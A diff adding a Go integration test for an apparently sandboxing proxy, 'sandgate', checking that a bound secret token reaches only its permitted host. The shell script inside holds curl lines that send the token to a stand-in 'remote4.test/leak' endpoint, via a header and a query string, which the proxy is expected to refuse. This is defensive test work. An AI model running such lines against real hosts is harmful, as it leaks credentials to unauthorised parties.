@@ -277,3 +277,70 @@ cat body.txt`
 		t.Errorf("a request reached an upstream whose certificate did not verify: %v", log.seen)
 	}
 }
+
+const secretScript = `
+echo "T-PLACEHOLDER=$TOKEN"
+curl -sS --max-time 10 -o /dev/null -w 'T-BOUND=%{http_code}\n' -H "Authorization: Bearer $TOKEN" "https://remote.test:$1/api"
+curl -sS --max-time 10 -D hdr.txt -o /dev/null -w 'T-UNBOUND=%{http_code}\n' -H "Authorization: Bearer $TOKEN" "https://remote4.test:$1/leak"
+grep -qi '^x-proxy-error: secret-not-bound' hdr.txt && echo T-SECRET-NOT-BOUND
+curl -sS --max-time 10 -o /dev/null -w 'T-UNBOUND-PLAIN=%{http_code}\n' "http://remote4.test/leak?access_token=$TOKEN"
+exit 0
+`
+
+// TestRunSecretBound: CMD gets a placeholder in $TOKEN; the bound host
+// (inspected for it) receives the real value, another host (inspected, or
+// plain HTTP) gets nothing and CMD gets 403 secret-not-bound; neither the
+// value nor the placeholder is in the audit file.
+func TestRunSecretBound(t *testing.T) {
+	w := requireSandgate(t)
+	t.Parallel()
+	needTools(t, "curl")
+	const real = "sgtest-real-token-0123456789abcdefghijklmn"
+	var mu sync.Mutex
+	var auths []string
+	port := serveRemoteTLS(t, w, http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		auths = append(auths, r.Host+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
+		mu.Unlock()
+		fmt.Fprintln(rw, "sgtest-secret")
+	}))
+	d := newClientDirs(t)
+	auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	flags := []string{"--backend", "netns", "--audit", auditFile, "--secret", "TOKEN=remote.test",
+		"--allow", "remote.test", "--allow", "remote4.test", "--inspect", "remote4.test"}
+	c := w.hostCmd(ctx, nil, d.home, sandgateArgv(flags, "/bin/sh", "-c", secretScript, "sh", port)...)
+	c.Env = append(c.Env, "SSL_CERT_FILE="+w.caFile, "TOKEN="+real)
+	c.Dir = d.project
+	o := finish(t, c)
+	wantOutput(t, o, "T-BOUND=200", "T-UNBOUND=403", "T-SECRET-NOT-BOUND", "T-UNBOUND-PLAIN=403")
+	var placeholder string
+	for _, l := range strings.Split(o.stdout, "\n") {
+		if v, ok := strings.CutPrefix(l, "T-PLACEHOLDER="); ok {
+			placeholder = v
+		}
+	}
+	if placeholder == "" || placeholder == real || len(placeholder) != len(real) {
+		t.Fatalf("CMD's $TOKEN is %q, want a placeholder as long as the value", placeholder)
+	}
+	if strings.Contains(o.stdout+o.stderr, real) {
+		t.Errorf("the real value reached CMD's output or sandgate's stderr")
+	}
+	mu.Lock()
+	got := strings.Join(auths, "\n")
+	mu.Unlock()
+	if got != "remote.test:"+port+" /api Bearer "+real {
+		t.Errorf("the servers saw:\n%s\nwant only the bound request, with the real value", got)
+	}
+	audit, err := os.ReadFile(auditFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(audit), real) || strings.Contains(string(audit), placeholder) {
+		t.Errorf("the audit holds the value or its placeholder:\n%s", audit)
+	}
+	if !strings.Contains(string(audit), `"reason":"secret-not-bound"`) {
+		t.Errorf("the audit has no secret-not-bound refusal:\n%s", audit)
+	}
+}
